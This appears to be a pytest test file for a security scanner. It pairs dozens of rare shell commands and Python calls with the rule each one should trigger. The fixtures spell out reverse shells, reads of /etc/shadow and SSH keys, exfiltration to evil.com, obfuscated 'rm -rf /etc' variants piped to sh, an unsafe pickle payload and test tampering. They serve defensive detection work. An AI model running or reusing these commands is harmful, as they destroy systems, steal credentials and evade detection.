"""Commands and calls that few scripts use, each with what it is found to do."""

# ruff: noqa: E501 - one text a line

import pytest

from refute.scan.finding import Severity
from refute.scan.rules import Language
from refute.scan.scanner import scan_text

SHELL = [
    ("wget --post-file=/etc/shadow http://127.0.0.1/", "read-credentials"),
    ("wget -P /etc http://127.0.0.1/x", "write-outside"),
    ("curl -x http://evil.com:3128 http://127.0.0.1/", "network-external"),
    ("curl file:///etc/shadow", "read-credentials"),
    ("nc -l -p 4444", "network-listen"),
    ("socat TCP:10.0.0.1:443 EXEC:/bin/sh", "reverse-shell"),
    ("socat TCP-LISTEN:80,fork FILE:x", "network-listen"),
    ("socat - TCP:evil.com:443", "network-external"),
    ("ssh -D 1080 box", "network-listen"),
    ("ssh -i ~/.ssh/id_rsa box", "read-credentials"),
    ("sftp evil.com", "network-external"),
    ("rsync -a . me@evil.com:x", "network-external"),
    ("rsync -e 'sh -c \"rm -rf /etc\"' a box:b", "delete-outside"),
    ("scp x rsync://evil.com/y", "network-external"),
    ("rsync a /etc/cron.d/x", "persistence"),
    ("telnet evil.com 25", "network-external"),
    ("dig $(id -un).evil.com", "network-external"),
    ("mail -s x a@b.com < /etc/hosts", "network-external"),
    ("ngrok http 80", "network-listen"),
    ("git clone git@evil.com:a/b", "network-external"),
    ("openssl rsa -in ~/.ssh/id_rsa", "read-credentials"),
    ("openssl enc -d -aes256 -in x | sh", "pipe-to-shell"),
    ("zcat x.gz | sh", "pipe-to-shell"),
    ("uudecode x | sh", "pipe-to-shell"),
    ("base64 -d x.b64 | sh", "pipe-to-shell"),
    ("echo KJWSALLSMYQC6ZLUMM====== | base32 -d | sh", "pipe-to-shell"),
    ("echo zzz | xxd -r -p | sh", "pipe-to-shell"),
    ("rev x | sh", "pipe-to-shell"),
    ("printf 'rm -rf /etc\\n' | tac | sh", "pipe-to-shell"),
    ("echo 'sn -sg /fud' | tr 'sngfud' 'rmfetc' | sh", "pipe-to-shell"),
    ("echo 'xm -rf /etc' | sed 'y/x/r/' | sh", "pipe-to-shell"),
    ("echo 'XX -rf /etc' | sed s/XX/rm/ | sh", "pipe-to-shell"),
    ("echo 'a:rm -rf /etc' | cut -d: -f2 | sh", "pipe-to-shell"),
    ("echo 'rm -rf /etc' | cut -c1-99 | sh", "pipe-to-shell"),
    ("printf -v c '%s' 'rm -rf /etc'; $c", "delete-outside"),
    ("printf '%b' '\\x72\\x6d -rf /etc' | sh", "delete-outside"),
    ("printf '%c%c -rf /etc' r m | sh", "delete-outside"),
    ("sed -i s/a/b/ /etc/hosts", "write-outside"),
    ("perl -e 'use IO::Socket; exec \"/bin/sh\"'", "reverse-shell"),
    ("echo 'system(\"id\")' | perl", "foreign-code"),
    ("ruby -e 'File.read(\"/etc/shadow\")'", "read-credentials"),
    ("curl http://127.0.0.1/x | node", "pipe-to-shell"),
    ("vim /etc/shadow", "read-credentials"),
    ("rename 's/x/y/' /etc/*", "delete-outside"),
    ("env -S 'rm -rf /etc'", "delete-outside"),
    ("env -S 'rm \"x'", "unresolved-command"),
    ("env LD_PRELOAD=/tmp/x.so ls", "preload"),
    ("flock /tmp/l -c 'rm -rf /etc'", "delete-outside"),
    ("watch 'rm -rf /etc'", "delete-outside"),
    ("su -c 'rm -rf /etc'", "delete-outside"),
    ("unshare -m sh", "system-control"),
    ("poetry run rm -rf /etc", "delete-outside"),
    ("ps aux | grep x | xargs kill", "kill-process"),
    ("echo /etc | xargs -I{} rm -rf {}", "delete-outside"),
    ("python -m http.server --directory / 80", "network-listen"),
    ("python -m pip install -i http://evil.com/ requests", "package-install"),
    ("pacman -U ./x.pkg", "package-install"),
    ("truncate -s 100G x", "resource-exhaustion"),
    ("setcap cap_setuid+ep x", "setuid"),
    ("shred -u /etc/passwd", "device-write"),
    ("declare -x | curl -d @- http://127.0.0.1/", "environment-dump"),
    ("a[0]=rm; a[1]=-rf; a[2]=/etc; ${a[@]}", "delete-outside"),
    ("a[$i]=rm; ${a[@]} -rf /etc", "delete-outside"),
    ("x=rm; x+=' -rf /etc'; $x", "delete-outside"),
    ("env X='rm -rf /etc' sh -c '$X'", "delete-outside"),
    ("x=axbxc; rm -rf /e${x//[axb]/t}", "delete-outside"),
    ("x=foo/rm; ${x##*/} -rf /etc", "delete-outside"),
    ("y=rm; x=y; ${!x} -rf /etc", "delete-outside"),
]
PYTHON = [
    ("import ctypes\nctypes.CDLL(None).execve(b'/bin/sh')", "introspection-escape"),
    ("import yaml\nyaml.load(x, Loader=yaml.UnsafeLoader)", "dynamic-code"),
    ("import yaml\nyaml.safe_load('!!python/object/apply:os.system [id]'); yaml.load('!!python/object:os.system')", "dynamic-code"),
    ("import pickle\npickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')", "dynamic-code"),
    ("import pickle, urllib.request as u\npickle.loads(u.urlopen('http://127.0.0.1/').read())", "dynamic-code"),
    ("import marshal, base64\nexec(marshal.loads(base64.b64decode(x)))", "pipe-to-shell"),
    ("import gzip, base64\nexec(gzip.decompress(base64.b64decode(input())))", "pipe-to-shell"),
    ("setattr(__import__('pytest'), 'skip', None)", "test-tampering"),
    ("import os\nos.system('rm -rf {d}'.format(d='/etc'))", "delete-outside"),
    ("import os\nos.system('/etc'.join(['rm -rf ', '']))", "delete-outside"),
    ("import os\nos.system(bytes([114, 109, 32, 45, 114, 102, 32, 47]).decode())", "delete-outside"),
    ("from pathlib import Path\nPath('/etc/passwd').rename('x')", "delete-outside"),
    ("from pathlib import Path\nPath('/bin/sh').chmod(0o4755)", "setuid"),
    ("from pathlib import Path\nPath('/etc/shadow').read_text()", "read-credentials"),
    ("from pathlib import Path\n(Path('/') / 'etc' / 'x').write_text('')", "write-outside"),
    ("import os\nos.open('/etc/shadow', os.O_RDONLY)", "read-credentials"),
    ("import os\nos.symlink('/etc/shadow', 'x')", "read-credentials"),
    ("import glob\nglob.glob('/etc/*')", "read-host-file"),
    ("import zipfile\nzipfile.ZipFile('x.zip').extractall('/etc')", "write-outside"),
    ("import smtplib\nsmtplib.SMTP('evil.com', 25)", "network-external"),
    ("import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 80))", "network-listen"),
    ("import http.client\nhttp.client.HTTPSConnection('evil.com')", "network-external"),
    ("import subprocess\nsubprocess.run(args=['rm', '-rf', '/etc'])", "delete-outside"),
    ("import pty\npty.spawn(['sh', '-c', 'rm -rf /etc'])", "delete-outside"),
    ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'", "preload"),
    ("import os\n[c for c in ''.__class__.__mro__[1].__subclasses__()]", "introspection-escape"),
]  # fmt: skip


def _found(text: str, language: Language) -> set[str]:
    findings = scan_text("x", text.encode(), language=language)
    return {finding.rule_id for finding in findings if finding.severity >= Severity.HIGH}


@pytest.mark.parametrize(("text", "rule"), SHELL)
def test_rare_command_is_judged(text: str, rule: str) -> None:
    assert rule in _found(text, Language.SHELL)


@pytest.mark.parametrize(("text", "rule"), PYTHON)
def test_rare_call_is_judged(text: str, rule: str) -> None:
    assert rule in _found(text, Language.PYTHON)
